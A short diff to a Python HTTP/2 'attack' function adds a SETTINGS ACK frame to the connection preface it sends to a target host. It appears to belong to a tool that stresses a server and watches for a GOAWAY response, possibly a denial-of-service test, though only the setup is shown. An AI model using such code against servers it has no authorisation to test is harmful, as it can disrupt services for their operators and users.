@@ -83,7 +83,8 @@ def attack(host: str, port: int, chunks: list[bytes], units: int, linger_s: floa
     reads them; then wait up to ``linger_s`` for the server to close the connection."""
     sock = socket.create_connection((host, port))
     sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
-    sock.sendall(PREFACE + hyperframe.frame.SettingsFrame(0).serialize())
+    ack = hyperframe.frame.SettingsFrame(0, flags=["ACK"])  # of the server's (sent first)
+    sock.sendall(PREFACE + hyperframe.frame.SettingsFrame(0).serialize() + ack.serialize())
     state: dict[str, float | int | bytes | None] = {"goaway": None, "code": None, "debug": None}
     closed = threading.Event()
     received = [0]
